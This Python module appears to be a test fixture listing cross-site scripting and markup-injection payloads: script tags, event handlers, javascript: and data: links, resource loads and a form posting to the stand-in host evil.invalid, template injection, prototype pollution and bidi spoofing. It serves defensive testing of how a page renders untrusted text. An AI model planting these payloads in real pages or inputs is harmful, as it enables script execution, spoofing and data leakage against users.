"""Texts that run, load or disguise something where a page takes them for more than text."""

FOREIGN = "//evil.invalid"
"""No such host exists: a request to it is made by whoever read a text as markup."""

SCRIPTS = (
    "<script>alert(1)</script>",
    f"<script src={FOREIGN}/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</textarea></title></style><script>alert(1)</script>",
    "<script\x0d\x0a>alert(1)</script\x0d\x0a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\ufeff<script>alert(1)</script>",
)
EVENTS = (
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'\"><img src=`x` onerror=alert`1`>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
)
LINKS = (
    "<a href=javascript:alert(1)>click</a>",
    "<a href='java\tscript:alert(1)'>click</a>",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    f"[click](https:{FOREIGN}/link)",
    f"https:{FOREIGN}/bare",
    "www.evil.invalid",
    "someone@evil.invalid",
)
LOADS = (
    f"![picture](https:{FOREIGN}/p.png)",
    f"<img src={FOREIGN}/p.png>",
    f"<link rel=stylesheet href={FOREIGN}/s.css>",
    f"<style>@import '{FOREIGN}/s.css';</style>",
    f'<div style="background:url({FOREIGN}/b.png)">x</div>',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    f"<base href={FOREIGN}/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    f"<form action={FOREIGN}/f><button>send</button></form>",
)
WORDS = (
    "${alert(1)} {{constructor.constructor('alert(1)')()}}",
    "$\\href{javascript:alert(1)}{x}$",
    ":material/home: :red[red] :blue-badge[badge] :streamlit:",
    "**bold** ~~struck~~ `code` # heading\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "\u202egnp.exe\u202c and \u2066hidden\u2069",
    "=HYPERLINK(\"https://evil.invalid\";\"click\") %{x} %{customdata[0]}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "__proto__",
)  # fmt: skip

HOSTILE = SCRIPTS + EVENTS + LINKS + LOADS + WORDS
